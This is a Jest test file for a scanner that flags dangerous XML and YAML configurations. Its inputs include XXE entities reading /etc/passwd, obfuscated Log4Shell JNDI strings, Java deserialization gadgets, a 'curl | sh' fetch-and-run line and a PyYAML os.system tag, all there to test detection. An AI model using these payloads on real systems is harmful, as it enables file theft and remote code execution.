import { describe, expect, it } from '@jest/globals';
import { inspectBytes } from '../../support/inspect-bytes.js';

const told = async (text: string | Uint8Array, name = 'conf/pipeline.xml'): Promise<readonly string[]> =>
  (await inspectBytes(typeof text === 'string' ? Buffer.from(text) : text, name)).told.filter(
    (line) => !line.startsWith('info'),
  );
const declared = (...entities: readonly string[]): string =>
  `<?xml version="1.0"?>\n<!DOCTYPE c [${entities.join('\n')}]>\n<c>&x;</c>`;
const entity = (system: string): string => declared(`<!ENTITY x SYSTEM "${system}">`);

describe('an XML configuration', () => {
  it.each([
    entity('file:///etc/passwd'),
    entity('/etc/passwd'),
    entity('../../../../etc/passwd'),
    entity('C:\\Windows\\win.ini'),
    entity('\\\\host\\share\\x'),
    entity('php://filter/read=convert.base64-encode/resource=x'),
    entity('expect://id'),
    entity('jar:http://host.example.invalid/x.jar!/x'),
    declared('<!ENTITY % p SYSTEM "file:///etc/hostname">', '%p;'),
    declared(
      '<!ENTITY x "&y;&y;">',
      `<!ENTITY y "${'&z;'.repeat(5_000)}">`,
      `<!ENTITY z "${'a'.repeat(5_000)}">`,
    ),
    declared('<!ENTITY x "&y;">', '<!ENTITY y "&x;">'),
    '<c xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></c>',
  ])('%s', async (text) => {
    expect(await told(text)).toEqual(['critical manifest/external-entity']);
  });

  it.each([
    entity('https://host.example.invalid/x'),
    declared('<!ENTITY % p SYSTEM "http://host.example.invalid/x.dtd">', '%p;'),
  ])('that asks a server is worth a warning: %s', async (text) => {
    expect(await told(text)).toEqual(['warning manifest/external-entity']);
  });

  it.each([
    '<beans><bean class="java.lang.ProcessBuilder" init-method="start"/></beans>',
    '<beans><bean class="org.springframework.context.support.ClassPathXmlApplicationContext"/></beans>',
    '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>',
    '<sorted-set><dynamic-proxy><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>',
    '<object-stream><java.lang.ProcessBuilder><command/></java.lang.ProcessBuilder></object-stream>',
    '<Configuration><Property name="x">${jndi:ldap://host.example.invalid/a}</Property></Configuration>',
    '<Configuration><File fileName="${${::-j}${::-n}di:ldap://host.example.invalid/a}"/></Configuration>',
    '<Configuration><File fileName="${${lower:j}ndi:${lower:r}mi://host.example.invalid/a}"/></Configuration>',
  ])('%s', async (text) => {
    expect(await told(text)).toContain('critical manifest/java-object');
  });

  it('is judged as every other one', async () => {
    expect(await told('<model><_target_>os.system</_target_><command>x</command></model>')).toEqual([
      'critical manifest/dangerous-target',
    ]);
    const command = 'curl https://host.example.invalid/x | sh';
    for (const text of [
      `<beans><bean/><property name="command" value="${command}"/></beans>`,
      `<beans><bean/><property><name>a.command</name><value>${command}</value></property></beans>`,
      `<beans><bean/><command>${command}</command></beans>`,
    ])
      expect(await told(text)).toEqual(['critical manifest/shell-command']);
  });

  it('has places', async () => {
    const { drafts } = await inspectBytes(
      Buffer.from('<a>\n  <b>\n    <_target_>os.system</_target_>\n  </b>\n</a>'),
      'x.xml',
    );
    expect(drafts[0]?.at).toMatchObject({ line: 3, logical: 'a.b._target_' });
  });

  it.each([
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd" [<!ENTITY nbsp "&#160;">]><html/>',
    '<!DOCTYPE book [<!ENTITY % more SYSTEM "more.ent"> %more; <!ENTITY chapter SYSTEM "../chapters/one.xml">]><book>&chapter;</book>',
    '<beans><bean id="net" class="org.example.Net"><property name="url" value="https://example.org/model"/></bean></beans>',
    '<opencv_storage><cascade type_id="opencv-cascade-classifier"><stageType>BOOST</stageType></cascade></opencv_storage>',
    '<c xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="part.xml"/></c>',
  ])('of an ordinary kind is silent: %s', async (text) => {
    expect(await told(text)).toEqual([]);
  });

  it.each([
    ['deep', `<bean/>${'<a>'.repeat(200_000)}`],
    ['unclosed', '<bean><a></bean>'],
    [
      'of many attributes',
      `<bean ${Array.from({ length: 100_000 }, (_, at) => `a${String(at)}="1"`).join(' ')}/>`,
    ],
    ['huge', `<bean/>${' '.repeat(5 * 2 ** 20)}`],
    ['of two equal attributes', '<bean class="x" class="y"/>'],
  ])('that is %s ends in a finding or is read', async (kind, text) => {
    const lines = await told(text);
    if (kind !== 'of many attributes')
      expect(lines.join()).toMatch(/^warning scan\/(?:damaged|limit-reached)/);
    else expect(lines).toEqual([]);
  });
});

describe('a directive behind a document that nothing ends', () => {
  it('is one for PyYAML, and so are its tags', async () => {
    const text =
      'a: 1\n---\nb: [x]\n%TAG !p! tag:yaml.org,2002:python/\n---\nc: !p!object/apply:os.system [echo]\n';
    expect(await told(text, 'config.yaml')).toEqual(['critical manifest/python-tag']);
  });

  it('is nothing in a genuine stream', async () => {
    expect(
      await told(
        '--- !!python/tuple [a]\n--- !x\n- a\n%TAG ! tag:example.org,2002:\n---\n- !shape a\n',
        'x.yaml',
      ),
    ).toEqual([]);
  });
});
